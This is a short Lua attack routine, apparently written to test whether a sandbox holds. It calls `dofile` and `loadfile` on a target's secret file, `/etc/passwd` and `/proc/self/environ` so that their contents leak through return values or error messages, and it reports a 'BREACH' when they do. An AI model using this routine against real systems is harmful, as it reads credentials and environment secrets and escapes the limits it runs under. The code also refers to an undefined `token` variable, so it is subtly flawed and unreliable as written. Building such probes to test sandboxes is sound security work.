-- Runs the secret file as a program, so that what is in it shows in a value or in a message.
function solve(target)
  for _, name in ipairs({"dofile", "loadfile"}) do
    for _, path in ipairs({target.secret_file, target.folder .. "/kept.txt", "/etc/passwd", "/proc/self/environ"}) do
      local called, first, second = pcall(function() return _G[name](path) end)
      local text = tostring(first) .. tostring(second)
      if called and (first ~= nil or token ~= nil) or text:find("near", 1, true) then
        return "BREACH: " .. name .. " gives " .. text .. tostring(token)
      end
    end
  end
  return "held"
end
